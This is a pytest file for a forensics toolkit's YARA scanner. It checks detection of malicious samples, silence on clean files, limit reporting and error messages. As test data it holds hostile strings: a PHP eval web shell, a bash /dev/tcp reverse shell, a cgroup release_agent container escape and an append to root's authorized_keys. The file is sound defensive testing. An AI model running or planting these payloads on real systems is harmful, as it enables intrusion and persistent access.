"""YARA over files: hits with a meaning, limits, errors with a place, a gap without yara-x."""

from __future__ import annotations

import os
import sys
from pathlib import Path

import pytest

from irkit import yara_rules
from irkit.compare.attack import load_techniques
from irkit.compare.rules import Timings
from irkit.compare.yara import Yara, open_yara, yara_files
from irkit.errors import UsageProblem
from irkit.home import home
from irkit.models import SEVERITIES, Gap

SHIPPED = Yara()
ELF = b"\x7fELF" + bytes(60)


@pytest.mark.parametrize(
    ("rule", "data"),
    [
        ("web_shell_request_to_interpreter", b"<?php @eval($_POST['x']); ?>"),
        ("web_shell_packed", b"<?php eval(gzinflate(base64_decode('x'))); ?>"),
        ("coin_miner_program", ELF + b"stratum+tcp://\0randomx\0"),
        ("coin_miner_configuration", b'{"pools": [], "donate-level": 1}'),
        ("reverse_shell_script", b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
        ("upx_packed_program", ELF + b"UPX!" + bytes(100) + b"UPX!"),
        ("process_hider", ELF + b"readdir64\0dlsym\0/proc/self/fd/%d\0/proc/%s/stat\0"),
        ("credential_dumper", b"# mimipenguin\n"),
        ("container_escape_tool", b"echo 1 > x/notify_on_release; echo /cmd > release_agent"),
        ("ssh_backdoor_key_writer", b"echo ssh-ed25519 AAAAx >> /root/.ssh/authorized_keys"),
    ],
)
def test_shipped_rules(rule: str, data: bytes) -> None:
    hits = {hit.rule: hit for hit in SHIPPED.scan(data).hits}
    assert rule in hits
    finding = hits[rule].finding("/x")
    assert finding.rule == f"yara:{rule}"
    assert finding.severity in SEVERITIES
    assert finding.reason
    assert finding.next
    assert set(finding.attack) <= set(load_techniques().techniques)
    assert finding.attack


@pytest.mark.parametrize(
    "data",
    [
        b"", b"hello", b"<?php echo htmlspecialchars($_GET['x']);", b"stratum+tcp:// in a document", ELF + b"UPX!", ELF + b"readdir64\0dlsym\0",
        Path(sys.executable).read_bytes(), Path(os.__file__).read_bytes(), Path("/bin/sh").read_bytes(),
    ],
    ids=range(9),
)  # fmt: skip
def test_honest_files(data: bytes) -> None:
    assert SHIPPED.scan(data).names == ()


def test_limits_are_said() -> None:
    small = Yara(limit=1000)
    scan = small.scan(bytes(2000) + b"bash -i >& /dev/tcp/203.0.113.9/4444")
    assert scan.hits == ()
    assert scan.problem == "only the first 1000 of 2036 bytes were scanned"


def test_a_descriptor(tmp_path: Path) -> None:
    path = tmp_path / "x"
    path.write_bytes(b"<?php system($_GET['c']);")
    descriptor = os.open(path, os.O_RDONLY)
    try:
        os.lseek(descriptor, 5, os.SEEK_SET)
        assert SHIPPED.scan_descriptor(descriptor).names == ("web_shell_request_to_interpreter",)
        assert os.lseek(descriptor, 0, os.SEEK_CUR) == 5
    finally:
        os.close(descriptor)
    folder = os.open(tmp_path, os.O_RDONLY)
    try:
        assert "can't be read" in SHIPPED.scan_descriptor(folder).problem
    finally:
        os.close(folder)


OWN = 'rule own { meta: severity = "high" attack = "T1562.001, T1059.004 x" description = "Mine\x1b" strings: $a = "own-sign" condition: $a }\n'


def test_own_rules_come_on_top_and_older_ids_become_current() -> None:
    folder = home() / "forensics/yara"
    folder.mkdir(parents=True)
    (folder / "own.yar").write_text(OWN)
    assert len(list(yara_files())) == 2
    (hit,) = Yara().scan(b"an own-sign").hits
    assert hit.attack == ("T1685", "T1059.004")
    assert hit.title == "Mine\\x1b"
    assert hit.severity == "high"
    assert hit.places == (("$a", 3),)
    timings = Timings()
    Yara().scan(b"own-sign", timings)
    assert {row["rule"] for row in timings.rows()} == {"yara file own.yar", "yara file files.yar"}


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (OWN + "rule b { condition: foo }", r"own\.yar:2:21: unknown identifier"),
        ("rule {", r"own\.yar:1:\d+: syntax error"),
        ('include "/etc/passwd"', r"own\.yar:1:\d+: include"),
    ],
)
def test_broken_rules_name_file_and_line(tmp_path: Path, text: str, said: str) -> None:
    path = tmp_path / "own.yar"
    path.write_text(text)
    with pytest.raises(UsageProblem, match=said):
        open_yara([path])


def test_without_yara_a_gap_says_how_to_get_it(monkeypatch: pytest.MonkeyPatch) -> None:
    yara_rules._compiled.cache_clear()
    monkeypatch.setitem(sys.modules, "yara_x", None)
    found = open_yara()
    assert isinstance(found, Gap)
    assert "pip install 'irkit[yara]'" in found.why
